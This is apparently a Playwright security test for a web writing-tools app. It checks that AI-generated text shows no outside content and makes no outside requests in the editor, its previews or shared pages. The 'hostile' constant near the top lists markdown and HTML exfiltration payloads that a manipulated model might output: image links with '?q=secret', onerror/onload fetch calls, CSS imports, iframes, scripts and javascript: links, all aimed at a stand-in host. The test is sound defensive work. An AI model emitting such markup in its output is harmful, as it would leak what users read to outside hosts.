import { writingTools } from '#shared/tools.ts'
import { runSql } from './database.ts'
import { expect, test } from './journey.ts'

const foreign = 'http://192.0.2.7'
/** Possible output of a manipulated model: each line would leak that, or what, a member reads. */
const hostile = [
  '## Heading',
  `![a](${foreign}/picture.png?q=secret) ![b][ref] ![](//192.0.2.7/protocol.png)`,
  `[ref]: ${foreign}/reference.png`,
  `<img src="${foreign}/img.png" onerror="fetch('${foreign}/error')"><image href="${foreign}/image.svg">`,
  `<link rel="stylesheet" href="${foreign}/style.css"><style>@import "${foreign}/import.css"; @font-face { font-family: x; src: url(${foreign}/font.woff2) }</style>`,
  `<meta http-equiv="refresh" content="0;url=${foreign}/refresh"><base href="${foreign}/">`,
  `<iframe src="${foreign}/frame"></iframe><object data="${foreign}/object"></object><form action="${foreign}/form"><input autofocus></form>`,
  `<script src="${foreign}/script.js"></script><svg onload="fetch('${foreign}/svg')"></svg><video poster="${foreign}/poster.png" src="${foreign}/video.mp4"></video>`,
  `<div style="background: url(${foreign}/background.png)">x</div>`,
  `[a link](${foreign}/link) <${foreign}/auto> [script](javascript:alert(1)) [data](data:text/html,x)`,
  '---',
  'The end.',
].join('\n\n')

test(
  'security 100, 101: a text of any tool sends no request to other hosts, in the editor, in its previews and as a shared page',
  { tag: '@en' },
  async ({ page, baseURL, words, open, signUp }) => {
    const asked: string[] = []
    page.on('request', (request) => {
      const url = request.url()
      if (!url.startsWith(baseURL ?? 'none') && !/^(?:data|blob):/.test(url)) asked.push(url)
    })
    const dialogs: string[] = []
    page.on('dialog', (dialog) => {
      dialogs.push(dialog.message())
      void dialog.dismiss()
    })
    const name = await signUp()
    const rows = await runSql(
      `insert into public.tool_use (user_id, tool, status, request, language, model, title, content, tags, saved_at, share_id)
       select u.id, tool, 'done', '{}', 'English', 'demo', $2, $3, array[$2], now(), gen_random_uuid()
       from public."user" u, unnest($4::text[]) as tool where u.nickname = $1 returning id, tool, share_id`,
      [name, `![t](${foreign}/title.png) <img src=${foreign}/title>`, hostile, writingTools],
    )
    const isClean = async () => {
      const found = await page.evaluate(
        (host) => ({
          elements: [
            ...document.querySelectorAll(
              'main :is(iframe, object, embed, script, style, link, meta, base, video)',
            ),
          ].length,
          pictures: [...document.querySelectorAll('img, image, source')].filter((element) =>
            element.outerHTML.includes(host),
          ).length,
          links: [...document.querySelectorAll<HTMLAnchorElement>('main a[href]')]
            .filter(
              ({ href }) =>
                (href.includes(host) && !href.startsWith('mailto:?')) ||
                /^(?:javascript|data|file):/.test(href),
            )
            .map(
              ({ rel, protocol }) =>
                `${protocol} ${['noopener', 'nofollow'].every((word) => rel.includes(word))}`,
            ),
        }),
        '192.0.2.7',
      )
      expect(found).toEqual({ elements: 0, pictures: 0, links: found.links.map(() => 'http: true') })
      expect(found.links.length).toBeGreaterThan(0)
    }
    for (const { id, tool, share_id: share } of rows) {
      await open(`/tool/use?tool=${String(tool)}&id=${String(id)}`)
      await expect(page.getByRole('toolbar', { name: words('writing.editor.toolbar') })).toBeVisible()
      await expect(page.getByRole('textbox', { name: words('writing.pane.textLabel') })).toContainText(
        'The end.',
      )
      await isClean()
      await open(`/public/write/${String(share)}`)
      await expect(page.getByRole('main')).toContainText('The end.')
      await isClean()
    }
    await open('/tool/history?q=end')
    await expect(page.getByRole('list', { name: words('history.list') }).getByRole('listitem')).toHaveCount(
      writingTools.length,
    )
    expect([asked, dialogs]).toEqual([[], []])
  },
)
